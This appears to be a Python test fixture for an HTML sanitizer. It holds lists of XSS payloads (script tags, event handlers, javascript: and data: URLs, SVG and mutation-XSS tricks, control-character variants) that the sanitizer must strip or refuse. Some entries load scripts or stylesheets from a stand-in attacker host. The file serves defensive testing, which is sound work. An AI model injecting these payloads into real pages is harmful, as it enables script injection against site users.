"""XSS vectors that html documents must survive, shared by sanitizer and server tests.

Drawn from the OWASP XSS filter evasion cheat sheet, html5sec.org and known
sanitizer bypasses (mutation XSS). Every entry in XSS_VECTORS is dangerous when
rendered raw, so cleaning it must report something removed. INERT_VECTORS aim at
weaker filters but parse, in a browser, into nothing that runs: they must come out
safe, yet need not be reported. REFUSED_VECTORS hold control characters:
normalize() refuses them before any HTML is looked at.
"""

XSS_VECTORS: list[str] = [
    # plain and mixed-case script
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/xss src=//evil.example/x.js></script>",
    '<script type="text/javascript">alert(1)</script>after',
    "<<script>script>alert(1)//<</script>/script>",
    "<script>alert(1)",
    "<p>ok</p><script>document.write('<img src=x onerror=alert(1)>')</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x onerror=alert(1)>",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    '<a href="https://example.com" onclick="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<b onmouseover=alert(1)>bold</b>",
    "<p/onclick=alert(1)>x</p>",
    # svg and math namespace tricks
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    # javascript:, vbscript:, data: URLs in every disguise
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    '&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a title="ok" href="javascript://%0Aalert(1)">x</a>',
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<object data=javascript:alert(1)></object>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<embed src=javascript:alert(1)>",
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    # frames, styles, document-level tags
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<applet code=x.class></applet>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="width: expression(alert(1))">x</div>',
    '<span style="background:url(javascript:alert(1))">x</span>',
    '<div style="behavior: url(x.htc)">x</div>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<template><script>alert(1)</script></template>",
    # comments, CDATA and raw-text contexts (mutation XSS)
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<]]><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<table><td><img src=x onerror=alert(1)></td></table>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
]

INERT_VECTORS: list[str] = [
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img/src=x/onerror=alert(1)>",
    '<a title="</a><img src=x onerror=alert(1)>">x</a>',
    '<a title="&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>javascript:alert(1)</p>",
    "<a href=\"https://example.com/?q=javascript:alert(1)\">x</a>",
]

REFUSED_VECTORS: list[str] = [
    "<scr\x00ipt>alert(1)</script>",
    "<img src=x\x00 onerror=alert(1)>",
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    "a<!>\x0cb",
    "<img src=x onerror\x0b=alert(1)>",
    "\x1b[31mred",
    "del\x7f",
]
